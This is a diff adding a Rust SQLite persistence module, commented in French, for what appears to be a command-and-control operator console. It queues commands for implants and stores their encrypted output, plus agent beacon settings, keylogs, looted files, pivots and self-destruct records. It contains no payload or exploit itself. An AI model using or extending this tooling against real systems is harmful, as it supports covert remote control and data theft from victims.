@@ -0,0 +1,393 @@
+use std::path::Path;
+use std::time::Duration;
+
+use rusqlite::{Connection, OpenFlags, OptionalExtension, Transaction, TransactionBehavior};
+
+use crate::agent::{agent_from_row, Agent, AgentField, AGENT_COLUMNS};
+use crate::audit::log_action;
+use crate::checkins::remove_all_checkins;
+use crate::crypto::{open_payload, open_payload_text, remove_agent_key, seal_payload};
+use crate::error::{Error, Result};
+use crate::notes::remove_all_notes;
+use crate::pivots::remove_all_pivots;
+use crate::topology::remove_all_reachability;
+use crate::schema::migrate;
+use crate::selfdestruct::remove_self_destruct;
+use crate::screenshots::PayloadType;
+use crate::groups::remove_from_all_groups;
+use crate::loot::remove_all_files;
+use crate::keylog::remove_all_keylogs;
+use crate::scheduler::remove_all_scheduled_tasks;
+use crate::tags::remove_all_tags;
+use crate::transfers::remove_all_uploads;
+use crate::timefmt::now_timestamp;
+
+// Tâche en file pour un agent, miroir d'une ligne de la table tasks.
+// Statuts : pending, sent (remise à l'implant), done ou failed
+#[derive(Debug)]
+pub struct Task {
+    pub id: i64,
+    // Reflète la table ; l'affichage est déjà filtré par agent
+    #[allow(dead_code)]
+    pub agent_id: String,
+    pub command: String,
+    pub status: String,
+    pub created_at: String,
+    // Début de la sortie seulement, décodé sans échec ; la sortie complète se lit par tranches
+    pub output: Option<String>,
+    // Sortie chiffrée : pas d'aperçu, output reste vide
+    pub sealed: bool,
+}
+
+// Début de sortie chargé avec chaque tâche, en octets. Une sortie chiffrée (préfixe enc1:)
+// n'est pas chargée avec les listes : seule la visionneuse la lit, et la déchiffre.
+const OUTPUT_PREVIEW: usize = 4096;
+const TASK_COLUMNS: &str = "id, agent_id, command, status, created_at,
+    CASE WHEN substr(output, 1, 5) = 'enc1:' THEN NULL ELSE substr(CAST(output AS BLOB), 1, 4096) END,
+    COALESCE(substr(output, 1, 5) = 'enc1:', 0)";
+
+// Les caractères de contrôle d'une sortie binaire dérègleraient le terminal
+fn preview(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes)
+        .chars()
+        .map(|c| if c.is_control() && c != '\n' { '.' } else { c })
+        .collect()
+}
+
+fn task_from_row(conn: &Connection, row: &rusqlite::Row) -> rusqlite::Result<Task> {
+    let agent_id: String = row.get(1)?;
+    let command = open_payload_text(conn, &agent_id, row.get(2)?)?;
+    let output = row.get::<_, Option<Vec<u8>>>(5)?.map(|mut bytes| {
+        bytes.truncate(OUTPUT_PREVIEW);
+        preview(&bytes)
+    });
+    Ok(Task {
+        id: row.get(0)?,
+        agent_id,
+        command,
+        status: row.get(3)?,
+        created_at: row.get(4)?,
+        output,
+        sealed: row.get(6)?,
+    })
+}
+
+// Partagé avec le thread du planificateur, qui a sa propre connexion
+pub fn insert_task(conn: &Connection, agent_id: &str, command: &str) -> rusqlite::Result<i64> {
+    conn.execute(
+        "INSERT INTO tasks (agent_id, command, status, created_at, payload_type) VALUES (?1, ?2, 'pending', ?3, ?4)",
+        (agent_id, seal_payload(conn, agent_id, command)?, now_timestamp(), PayloadType::for_command(command).as_str()),
+    )?;
+    Ok(conn.last_insert_rowid())
+}
+
+// Résultat déposé par l'implant ; renvoie false si la tâche n'existe pas ou n'attend plus
+// de réponse (pending, ou sent une fois remise) : une tâche terminée ne se réécrit pas
+pub fn complete_task(conn: &Connection, id: i64, output: &str, failed: bool) -> rusqlite::Result<bool> {
+    let agent_id: Option<String> = conn
+        .query_row("SELECT agent_id FROM tasks WHERE id = ?1", [id], |row| row.get(0))
+        .optional()?;
+    let Some(agent_id) = agent_id else {
+        return Ok(false);
+    };
+    let status = if failed { "failed" } else { "done" };
+    let updated = conn.execute(
+        "UPDATE tasks SET status = ?1, output = ?2 WHERE id = ?3 AND status IN ('pending', 'sent')",
+        (status, seal_payload(conn, &agent_id, output)?, id),
+    )?;
+    Ok(updated > 0)
+}
+
+fn column_names(conn: &Connection, table: &str) -> rusqlite::Result<Vec<String>> {
+    let mut stmt = conn.prepare(&format!("PRAGMA table_info({})", table))?;
+    let names = stmt.query_map([], |row| row.get::<_, String>(1))?;
+    names.collect()
+}
+
+// Première version de la file (renommée tasks depuis) : crée la table commands, ou met à niveau l'ancienne version (colonne timestamp, sans statut ni sortie)
+pub fn ensure_commands_table(conn: &Connection) -> rusqlite::Result<()> {
+    conn.execute(
+        "CREATE TABLE IF NOT EXISTS commands (
+            id INTEGER PRIMARY KEY AUTOINCREMENT,
+            agent_id TEXT NOT NULL,
+            command TEXT NOT NULL,
+            status TEXT NOT NULL DEFAULT 'pending',
+            created_at TEXT NOT NULL DEFAULT '',
+            output TEXT,
+            seen INTEGER NOT NULL DEFAULT 0,
+            FOREIGN KEY(agent_id) REFERENCES agents(id)
+        )",
+        [],
+    )?;
+    let columns = column_names(conn, "commands")?;
+    let has = |name: &str| columns.iter().any(|c| c == name);
+    if !has("status") {
+        conn.execute("ALTER TABLE commands ADD COLUMN status TEXT NOT NULL DEFAULT 'pending'", [])?;
+    }
+    if !has("output") {
+        conn.execute("ALTER TABLE commands ADD COLUMN output TEXT", [])?;
+    }
+    if !has("created_at") {
+        conn.execute("ALTER TABLE commands ADD COLUMN created_at TEXT NOT NULL DEFAULT ''", [])?;
+    }
+    if !has("seen") {
+        conn.execute("ALTER TABLE commands ADD COLUMN seen INTEGER NOT NULL DEFAULT 0", [])?;
+    }
+    if has("timestamp") {
+        conn.execute("UPDATE commands SET created_at = timestamp", [])?;
+        conn.execute("ALTER TABLE commands DROP COLUMN timestamp", [])?;
+    }
+    Ok(())
+}
+
+// Attente sur un verrou tenu par un autre thread (listeners, worker, balayages) avant
+// de renvoyer SQLITE_BUSY
+pub const BUSY_TIMEOUT: Duration = Duration::from_secs(5);
+
+// Connexion d'un thread d'arrière-plan sur le fichier ouvert par Db::open : le WAL est un
+// réglage du fichier, le délai d'attente est propre à chaque connexion
+pub fn connect(path: &str) -> rusqlite::Result<Connection> {
+    let conn = Connection::open(path)?;
+    conn.busy_timeout(BUSY_TIMEOUT)?;
+    Ok(conn)
+}
+
+// Verrou d'écriture pris dès BEGIN : une lecture suivie d'écritures attend son tour au
+// lieu d'échouer quand un autre thread a écrit entre les deux
+pub fn write_transaction(conn: &Connection) -> rusqlite::Result<Transaction<'_>> {
+    Transaction::new_unchecked(conn, TransactionBehavior::Immediate)
+}
+
+// Connexion unique de l'interface, ouverte pour toute la session
+pub struct Db {
+    conn: Connection,
+    path: String,
+}
+
+impl Db {
+    // Le fichier doit exister : une base absente est une erreur, pas une liste vide
+    pub fn open(path: &str) -> Result<Db> {
+        if !Path::new(path).exists() {
+            return Err(Error::DatabaseMissing(path.to_string()));
+        }
+        let open_error = |source| Error::Open { path: path.to_string(), source };
+        let flags = OpenFlags::SQLITE_OPEN_READ_WRITE | OpenFlags::SQLITE_OPEN_NO_MUTEX;
+        let mut conn = Connection::open_with_flags(path, flags).map_err(open_error)?;
+        conn.busy_timeout(BUSY_TIMEOUT).map_err(open_error)?;
+        // journal_mode renvoie une ligne, d'où query_row plutôt qu'execute ;
+        // c'est aussi la première lecture, qui échoue sur un fichier qui n'est pas une base
+        conn.query_row("PRAGMA journal_mode=WAL", [], |_| Ok(())).map_err(open_error)?;
+        migrate(&mut conn)?;
+        Ok(Db { conn, path: path.to_string() })
+    }
+
+    // Base vide, au dernier schéma ; pour les tests
+    pub fn open_in_memory() -> Result<Db> {
+        let mut conn = Connection::open_in_memory()?;
+        migrate(&mut conn)?;
+        Ok(Db { conn, path: ":memory:".to_string() })
+    }
+
+    // Pour --init : crée le fichier et ses répertoires parents ; les tables viennent des migrations
+    pub fn create(path: &str) -> Result<Db> {
+        if let Some(parent) = Path::new(path).parent()
+            && !parent.as_os_str().is_empty()
+        {
+            std::fs::create_dir_all(parent)?;
+        }
+        Connection::open(path).map_err(|source| Error::Open { path: path.to_string(), source })?;
+        Db::open(path)
+    }
+
+    // Les threads d'arrière-plan ouvrent leur propre connexion sur le même fichier
+    pub fn path(&self) -> &str {
+        &self.path
+    }
+
+    // Pour les modules qui travaillent directement sur une connexion
+    pub fn conn(&self) -> &Connection {
+        &self.conn
+    }
+
+    // Reporte le WAL dans la base et le vide, à la sortie : le fichier se copie seul
+    pub fn checkpoint(&self) -> Result<()> {
+        self.conn.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()))?;
+        Ok(())
+    }
+
+    pub fn load_agents(&self) -> Result<Vec<Agent>> {
+        // Rechargée périodiquement : la requête préparée reste en cache sur la connexion
+        let mut stmt = self.conn.prepare_cached(&format!("SELECT {} FROM agents", AGENT_COLUMNS))?;
+        let agents = stmt.query_map([], agent_from_row)?.collect::<rusqlite::Result<Vec<_>>>()?;
+        Ok(agents)
+    }
+
+    pub fn get_agent(&self, id: &str) -> Result<Option<Agent>> {
+        let agent = self.conn
+            .query_row(&format!("SELECT {} FROM agents WHERE id = ?1", AGENT_COLUMNS), [id], agent_from_row)
+            .optional()?;
+        Ok(agent)
+    }
+
+    pub fn save_agent(&self, agent: &Agent) -> Result<()> {
+        self.conn.execute(
+            "INSERT OR REPLACE INTO agents (id, hostname, ip, os, status, last_seen, location, beacon_interval_secs, screenshot_interval_secs,
+                                         username, is_elevated, uptime_secs, jitter_pct, archived)
+             VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12, ?13, ?14)",
+            (
+                &agent.id,
+                &agent.hostname,
+                &agent.ip,
+                &agent.os,
+                &agent.status,
+                &agent.last_seen,
+                &agent.location,
+                agent.beacon_interval_secs,
+                agent.screenshot_interval_secs,
+                &agent.username,
+                agent.is_elevated,
+                agent.uptime_secs,
+                agent.jitter_pct,
+                agent.archived,
+            ),
+        )?;
+        Ok(())
+    }
+
+    // Une valeur vide est enregistrée comme NULL pour les colonnes facultatives
+    pub fn update_agent_field(&self, id: &str, field: AgentField, value: &str) -> Result<()> {
+        let value = (!value.is_empty()).then_some(value);
+        // Une location saisie n'est plus écrasée par :geoip reload
+        let geoip = if field == AgentField::Location { ", location_from_geoip = 0" } else { "" };
+        let sql = format!("UPDATE agents SET {} = ?1{} WHERE id = ?2", field.column(), geoip);
+        if self.conn.execute(&sql, (value, id))? == 0 {
+            return Err(Error::AgentNotFound(id.to_string()));
+        }
+        Ok(())
+    }
+
+    // Tout ou rien : les agents, leurs commandes et résultats (clés étrangères),
+    // leurs étiquettes, notes, groupes, planifications, clés et pivots, et l'entrée du journal
+    pub fn delete_agents(&self, ids: &[String], operator: &str) -> Result<()> {
+        let tx = write_transaction(&self.conn)?;
+        for id in ids {
+            tx.execute(
+                "DELETE FROM results WHERE command_id IN (SELECT id FROM tasks WHERE agent_id = ?1)",
+                [id],
+            )?;
+            // Avant les tâches : les tranches en attente s'y rattachent
+            remove_all_files(&tx, id)?;
+            remove_all_uploads(&tx, id)?;
+            tx.execute("DELETE FROM tasks WHERE agent_id = ?1", [id])?;
+            tx.execute("DELETE FROM agents WHERE id = ?1", [id])?;
+            remove_all_tags(&tx, id)?;
+            remove_from_all_groups(&tx, id)?;
+            remove_all_scheduled_tasks(&tx, id)?;
+            remove_all_notes(&tx, id)?;
+            remove_all_keylogs(&tx, id)?;
+            remove_agent_key(&tx, id)?;
+            remove_all_pivots(&tx, id)?;
+            remove_all_reachability(&tx, id)?;
+            remove_all_checkins(&tx, id)?;
+            remove_self_destruct(&tx, id)?;
+        }
+        log_action(&tx, operator, "delete_agents", &ids.join(", "))?;
+        tx.commit()?;
+        Ok(())
+    }
+
+    pub fn enqueue_task(&self, agent_id: &str, command: &str) -> Result<i64> {
+        Ok(insert_task(&self.conn, agent_id, command)?)
+    }
+
+    // Les plus récentes en dernier, dans l'ordre d'affichage du terminal
+    pub fn recent_tasks(&self, agent_id: &str, limit: usize) -> Result<Vec<Task>> {
+        let mut stmt = self.conn.prepare_cached(&format!(
+            "SELECT {} FROM tasks WHERE agent_id = ?1 ORDER BY id DESC LIMIT ?2",
+            TASK_COLUMNS
+        ))?;
+        let rows = stmt.query_map((agent_id, limit as i64), |row| task_from_row(&self.conn, row))?;
+        let mut tasks = rows.collect::<rusqlite::Result<Vec<_>>>()?;
+        tasks.reverse();
+        Ok(tasks)
+    }
+
+    // Toute la file de l'agent, la plus ancienne en premier
+    pub fn tasks_for_agent(&self, agent_id: &str) -> Result<Vec<Task>> {
+        let mut stmt = self.conn.prepare_cached(&format!(
+            "SELECT {} FROM tasks WHERE agent_id = ?1 ORDER BY id",
+            TASK_COLUMNS
+        ))?;
+        let tasks = stmt.query_map([agent_id], |row| task_from_row(&self.conn, row))?.collect::<rusqlite::Result<Vec<_>>>()?;
+        Ok(tasks)
+    }
+
+    // File de tous les agents pour l'écran Tâches, la plus récente en premier
+    pub fn all_tasks(&self, limit: usize) -> Result<Vec<Task>> {
+        let mut stmt = self.conn.prepare_cached(&format!(
+            "SELECT {} FROM tasks ORDER BY id DESC LIMIT ?1",
+            TASK_COLUMNS
+        ))?;
+        let tasks = stmt.query_map([limit as i64], |row| task_from_row(&self.conn, row))?.collect::<rusqlite::Result<Vec<_>>>()?;
+        Ok(tasks)
+    }
+
+    pub fn pending_task_count(&self, agent_id: &str) -> Result<usize> {
+        let count: i64 = self.conn.query_row(
+            "SELECT COUNT(*) FROM tasks WHERE agent_id = ?1 AND status = 'pending'",
+            [agent_id],
+            |row| row.get(0),
+        )?;
+        Ok(count as usize)
+    }
+
+    // File de tous les agents, pour le résumé du menu
+    pub fn total_pending_task_count(&self) -> Result<usize> {
+        let count: i64 = self.conn.query_row("SELECT COUNT(*) FROM tasks WHERE status = 'pending'", [], |row| row.get(0))?;
+        Ok(count as usize)
+    }
+
+    // Tâches terminées, en échec comprises
+    pub fn completed_task_count(&self, agent_id: &str) -> Result<usize> {
+        let count: i64 = self.conn.query_row(
+            "SELECT COUNT(*) FROM tasks WHERE agent_id = ?1 AND status IN ('done', 'failed')",
+            [agent_id],
+            |row| row.get(0),
+        )?;
+        Ok(count as usize)
+    }
+
+    // Sortie chiffrée, déchiffrée en entier ; None pour une sortie en clair, qui se lit par tranches
+    pub fn sealed_output(&self, id: i64) -> Result<Option<Vec<u8>>> {
+        let row: Option<(String, Vec<u8>)> = self.conn
+            .query_row(
+                "SELECT agent_id, CAST(output AS BLOB) FROM tasks WHERE id = ?1 AND substr(output, 1, 5) = 'enc1:'",
+                [id],
+                |row| Ok((row.get(0)?, row.get(1)?)),
+            )
+            .optional()?;
+        match row {
+            Some((agent_id, stored)) => Ok(Some(open_payload(&self.conn, &agent_id, stored)?)),
+            None => Ok(None),
+        }
+    }
+
+    // Taille en octets de la sortie stockée en clair, texte ou binaire
+    pub fn task_output_len(&self, id: i64) -> Result<i64> {
+        let len: Option<i64> = self.conn
+            .query_row("SELECT length(CAST(output AS BLOB)) FROM tasks WHERE id = ?1", [id], |row| row.get(0))
+            .optional()?
+            .flatten();
+        Ok(len.unwrap_or(0))
+    }
+
+    // Tranche de la sortie à partir de l'octet offset (0 en tête)
+    pub fn task_output_chunk(&self, id: i64, offset: i64, len: i64) -> Result<Vec<u8>> {
+        let chunk: Option<Vec<u8>> = self.conn.query_row(
+            "SELECT CAST(substr(CAST(output AS BLOB), ?2, ?3) AS BLOB) FROM tasks WHERE id = ?1",
+            (id, offset + 1, len),
+            |row| row.get(0),
+        )?;
+        Ok(chunk.unwrap_or_default())
+    }
+}